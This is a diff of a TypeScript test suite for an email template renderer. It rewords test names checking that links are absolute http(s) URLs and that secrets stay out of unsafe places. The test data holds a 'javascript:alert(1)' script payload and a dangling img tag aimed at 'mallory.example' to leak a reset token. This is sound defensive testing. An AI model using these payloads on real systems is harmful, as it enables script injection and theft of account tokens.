@@ -24,7 +24,7 @@ const transactional = (html: string, variables: Record<string, unknown>) =>
 
 const script = 'javascript:alert(1)';
 
-describe('an address', () => {
+describe('a URL', () => {
   it.each([
     ['<a href="{{ link }}">x</a>', 'https://shop.example/?a=1&b=2'],
     ['<a href=" {{ link }} ">x</a>', 'http://shop.example'],
@@ -42,7 +42,7 @@ describe('an address', () => {
     ['<p style="color: {{ link }}">x</p>', '#ff0000'],
     ['<style>p { color: {{ link }} }</style>', 'rgb(1, 2, 3)'],
     ['<p>{{ link | size }}{% capture c %}{{ link }}{% endcapture %}{{ c }}{{ c | size }}</p>', script],
-  ])('in %s may be %s, and nothing else of the html changes', (html, link) => {
+  ])('in %s may be %s, and the rest of the HTML is unchanged', (html, link) => {
     const { html: rendered, warnings } = marketing(html, link);
     expect(warnings).toBeUndefined();
     expect(rendered).not.toMatch(/[\uFDD0-\uFDD2]/);
@@ -96,18 +96,18 @@ describe('an address', () => {
     expect(() => transactional(html, { link })).toThrow(UnsafeValueError);
   });
 
-  it('of the slots is looked at, too', () => {
+  it('is also checked in slots', () => {
     const content = { slots: { ...slots, body: '<a href="{{ attributes.link }}">x</a>' }, html: null, text: null };
     const context = { ...base, attributes: { link: script } };
     const message = renderMarketing(content, context, 'https://x.example/u/1');
-    expect(message.warnings).toEqual(['the value in href of <a> is not an absolute http(s) address']);
+    expect(message.warnings).toEqual(['the value in href of <a> is not an absolute http or https URL']);
     const button = { ...slots, ctaLabel: 'Go', ctaUrl: '{{ link }}' };
     expect(() => renderTransactional({ slots: button, html: null, text: null }, { link: script })).toThrow(/ctaUrl/);
     const good = renderTransactional({ slots: button, html: null, text: null }, { link: 'https://a.example/?a=1&b=2' });
     expect(good.html).toContain('href="https://a.example/?a=1&amp;b=2"');
   });
 
-  it('cannot hide behind html that breaks off, nor be let through by marks of its own', () => {
+  it('cannot hide in malformed HTML or behind forged markers', () => {
     const hidden = marketing('<p ="x"><a href="{{ attributes.link }}">x</a>', script);
     expect(hidden.html).not.toContain('script:');
     expect(hidden.warnings).toHaveLength(1);
@@ -121,13 +121,13 @@ describe('an address', () => {
 describe('a secret', () => {
   const reset_url = 'https://app.example/reset?token=abc&x=1';
 
-  it('stands in text, and a link as the whole href', () => {
+  it('may appear in text, and a secret link as the whole href', () => {
     const html = '<p>{{ reset_url }} {{ code }}</p><a href="{{ reset_url }}">x</a>';
     expect(transactional(html, { reset_url, code: '482913' })).toContain('482913</p>');
   });
 
-  it('is kept out of what a message hides it in at the time it is sent', () => {
-    // Read as a whole, the address stands in the picture that was never closed.
+  it('is removed from unsafe places again when the message is sent', () => {
+    // In the complete HTML, the URL is part of the image tag that was never closed.
     const body = `<img src='https://mallory.example/?`;
     const button = { ...slots, body, ctaLabel: `x'`, ctaUrl: '{{ reset_url }}' };
     expect(() => renderTransactional({ slots: button, html: null, text: null }, { reset_url })).toThrow(
